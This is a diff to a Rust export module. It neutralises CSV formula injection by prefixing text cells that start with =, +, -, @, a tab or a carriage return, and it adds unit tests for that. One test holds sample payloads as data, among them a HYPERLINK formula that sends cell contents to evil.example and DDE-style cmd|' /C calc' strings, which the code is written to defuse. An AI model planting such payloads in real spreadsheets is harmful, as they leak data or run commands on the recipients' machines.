@@ -23,15 +23,27 @@ pub struct Table {
     pub rows: Vec<Vec<Cell>>,
 }
 
-/// CSV, UTF-8 with a byte-order mark.
+/// A text cell as CSV may carry it: one starting like a formula (`=`, `+`, `-`, `@`, a tab or a
+/// carriage return), which Excel and WPS would run when the file is opened, gets a leading `'`, so it
+/// shows as the text it is (OWASP's advice on CSV injection). Number cells are not text: they stay
+/// numbers, negative ones included.
+pub fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}").into(),
+        _ => s.into(),
+    }
+}
+
+/// CSV, UTF-8 with a byte-order mark. Text cells are neutralised ([`csv_text`]); the XLSX export
+/// needs no such care, since it writes text as string cells, never as formulas.
 pub fn csv_bytes(t: &Table) -> Vec<u8> {
     let mut w = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
-    let _ = w.write_record(&t.headers);
+    let _ = w.write_record(t.headers.iter().map(|h| csv_text(h).into_owned()));
     for row in &t.rows {
         let cells: Vec<String> = row
             .iter()
             .map(|c| match c {
-                Cell::Text(s) => s.clone(),
+                Cell::Text(s) => csv_text(s).into_owned(),
                 Cell::Number(n) => format!("{n}"),
                 Cell::Empty => String::new(),
             })
@@ -246,4 +258,60 @@ pub fn html_table(t: &Table, id: &str) -> String {
     }
     s.push_str("</tbody></table>");
     s
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
+        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
+        let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
+        r.records().map(|rec| rec.unwrap().iter().map(str::to_owned).collect()).collect()
+    }
+
+    #[test]
+    fn csv_neutralises_formula_leading_text() {
+        let attacks = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let t = Table {
+            headers: vec!["问题".into(), "得分".into()],
+            rows: attacks.iter().map(|a| vec![Cell::Text((*a).into()), Cell::Number(-3.5)]).collect(),
+        };
+        let rows = read_back(&csv_bytes(&t));
+        assert_eq!(rows[0], ["问题", "得分"]);
+        for (row, attack) in rows[1..].iter().zip(attacks) {
+            assert_eq!(row[0], format!("'{attack}"));
+            // The report's own negative numbers stay numbers.
+            assert_eq!(row[1], "-3.5");
+        }
+    }
+
+    #[test]
+    fn csv_keeps_ordinary_text_as_is() {
+        let texts = ["郑州精工机械有限公司", "2024-03-01", "'quoted", " =spaced", "a=b", "", "1-2"];
+        let t = Table {
+            headers: vec!["x".into()],
+            rows: texts.iter().map(|x| vec![Cell::Text((*x).into())]).chain([vec![Cell::Empty]]).collect(),
+        };
+        let rows = read_back(&csv_bytes(&t));
+        for (row, text) in rows[1..].iter().zip(texts) {
+            assert_eq!(row[0], text);
+        }
+        assert_eq!(rows.last().unwrap()[0], "");
+    }
+
+    #[test]
+    fn csv_text_only_touches_the_first_character() {
+        assert_eq!(csv_text("=1"), "'=1");
+        assert_eq!(csv_text("x=1"), "x=1");
+        assert_eq!(csv_text("＝1"), "＝1");
+        assert!(matches!(csv_text("plain"), std::borrow::Cow::Borrowed(_)));
+    }
 }
